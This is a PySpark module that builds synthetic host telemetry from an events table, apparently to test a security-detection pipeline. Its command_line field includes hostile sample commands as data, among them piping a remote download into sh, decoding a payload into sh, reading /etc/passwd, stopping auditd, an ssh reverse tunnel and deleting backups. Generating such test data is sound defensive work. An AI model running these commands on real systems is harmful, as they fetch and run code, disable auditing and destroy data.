"""Host telemetry derived row by row from the ``events`` table.

The field list is one SQL text shared with the oracle; placeholders cover the two things
the dialects spell differently.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..schema import EVENT, conform, normalize
from ..session import tune

K = "CAST(regexp_extract(props, '[0-9]+', 0) AS BIGINT)"

FIELDS = """
  event_id AS seq, {us} AS us, value, k,
  concat('host-', CAST(k % 8 AS STRING)) AS host,
  CASE event_type
    WHEN 'signup' THEN CASE WHEN k % 12 = 11 THEN 'fork' ELSE 'exec' END
    WHEN 'purchase' THEN CASE WHEN k % 10 = 9 THEN 'accept' ELSE 'connect' END
    WHEN 'click' THEN CASE WHEN k < 40 THEN 'open' WHEN k < 60 THEN 'unlink' WHEN k < 80 THEN 'rename' ELSE 'chmod' END
    WHEN 'view' THEN CASE WHEN k % 25 = 0 THEN 'setuid' ELSE 'dns' END
    ELSE CASE WHEN k % 20 = 0 THEN 'module_load' WHEN k % 20 = 1 THEN 'ptrace' ELSE 'exit' END END AS action,
  user_id + 1 AS pid,
  CAST(floor((user_id + 1) / 2) AS BIGINT) AS ppid,
  (user_id + 1) * 1000 AS start_ns,
  CASE k % 6 WHEN 0 THEN 'bash' WHEN 1 THEN 'nginx' WHEN 2 THEN 'curl' WHEN 3 THEN 'whoami' WHEN 4 THEN 'ssh'
    ELSE 'python3' END AS name,
  CASE WHEN event_type = 'signup' AND k % 12 <> 11 THEN concat(CASE WHEN k % 10 = 0 THEN '/tmp/' ELSE '/usr/bin/' END,
    CASE k % 6 WHEN 0 THEN 'bash' WHEN 1 THEN 'nginx' WHEN 2 THEN 'curl' WHEN 3 THEN 'whoami' WHEN 4 THEN 'ssh'
    ELSE 'python3' END) ELSE '' END AS executable,
  CASE WHEN event_type = 'signup' AND k % 12 <> 11 THEN CASE event_id % 12
    WHEN 0 THEN 'bash -i' WHEN 1 THEN 'curl http://a.test/x | sh' WHEN 2 THEN 'cat /etc/passwd' WHEN 3 THEN 'ls -la'
    WHEN 4 THEN 'ps aux' WHEN 5 THEN 'dig a.test' WHEN 6 THEN 'systemctl stop auditd' WHEN 7 THEN 'tar czf - /home'
    WHEN 8 THEN 'ssh -R 8080:localhost:80 u@h' WHEN 9 THEN 'base64 -d payload | sh' WHEN 10 THEN 'rm -rf /var/backups'
    ELSE 'vim notes.txt' END ELSE '' END AS command_line,
  event_type = 'signup' AND k % 12 <> 11 AND event_id % 4 = 0 AS stdio_socket,
  user_id % 50 AS uid,
  CASE WHEN user_id % 3 = 0 THEN '' ELSE concat('user', CAST(user_id % 50 AS STRING)) END AS user_name,
  CASE WHEN event_type = 'purchase' THEN concat('10.0.', CAST(user_id % 4 AS STRING), '.', CAST(user_id % 200 AS STRING))
    ELSE '' END AS src_ip,
  CASE WHEN event_type = 'purchase' THEN concat('203.0.', CAST(k % 3 AS STRING), '.', CAST(event_id % 50 AS STRING))
    ELSE '' END AS dst_ip,
  CASE WHEN event_type = 'purchase' THEN CASE k % 5 WHEN 0 THEN 22 WHEN 1 THEN 443 WHEN 2 THEN 4444 WHEN 3 THEN 8080
    ELSE 0 END ELSE 0 END AS dst_port,
  CASE WHEN event_type = 'view' AND k % 25 <> 0 THEN CASE WHEN k % 25 = 1 THEN concat(repeat('a1', 30), '.Evil.example')
    ELSE concat('h', CAST(k % 10 AS STRING), '.Example.test') END ELSE '' END AS domain,
  CASE WHEN event_type = 'click' THEN CASE CAST(floor(k / 8) AS BIGINT) % 4 WHEN 0 THEN '/etc/cron.d/x'
    WHEN 1 THEN '/var/log/syslog' WHEN 2 THEN '/home/u/.ssh/authorized_keys' ELSE '/tmp/a' END ELSE '' END AS path,
  CASE WHEN event_type = 'click' AND k >= 60 AND k < 80 THEN CASE WHEN k % 2 = 0 THEN '/tmp/a.locked' ELSE '/tmp/a.bak' END
    ELSE '' END AS target,
  CASE WHEN event_type = 'click' AND k >= 80 THEN k * 25 ELSE 0 END AS mode,
  CASE WHEN event_type = 'view' AND k % 25 = 0 THEN k % 3 ELSE 0 END AS new_uid,
  CASE WHEN event_type = 'error' AND k % 20 = 1 THEN event_id % 8 ELSE 0 END AS request,
  CASE WHEN event_type = 'signup' AND k % 12 <> 11 AND k % 7 = 0 THEN {sha0}concat('exe', CAST(k AS STRING)){sha1} ELSE '' END AS sha256,
  CASE WHEN k % 3 = 0 THEN '/system.slice/ssh.service'
    WHEN k % 3 = 1 THEN concat('/kubepods/burstable/', md5(CAST(user_id AS STRING)))
    ELSE concat('/docker/', {sha0}CAST(user_id AS STRING){sha1}) END AS cgroup
"""

SPARK_US = "timestampdiff(MICROSECOND, timestamp_ntz'1970-01-01 00:00:00', ts)"


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return tune(spark).read.parquet(f"{sf_dir}/{name}.parquet")


def flat(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The telemetry fields as plain columns."""
    text = FIELDS.format(us=SPARK_US, sha0="sha2(", sha1=", 256)")
    events = table(spark, sf_dir, "events").withColumn("k", F.expr(K))
    return spark.sql(f"SELECT {text} FROM {{events}}", events=events)


def telemetry(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Events in the full nested schema, plus the ``cgroup`` path."""
    f = flat(spark, sf_dir)
    struct = lambda **cols: F.struct(*[F.col(v).alias(n) for n, v in cols.items()])
    nested = f.select(
        "seq", F.timestamp_micros("us").alias("ts"), "host", "action",
        struct(pid="pid", ppid="ppid", name="name", executable="executable", command_line="command_line",
               start_time_ns="start_ns", sha256="sha256", stdio_socket="stdio_socket").alias("process"),
        struct(id="uid", name="user_name").alias("user"),
        struct(path="path", target="target", mode="mode").alias("file"),
        struct(src_ip="src_ip", dst_ip="dst_ip", dst_port="dst_port", domain="domain").alias("network"),
        struct(new_uid="new_uid", request="request").alias("syscall"), "cgroup")
    full = normalize(conform(nested))
    return full.select(*EVENT.fieldNames(), "cgroup")
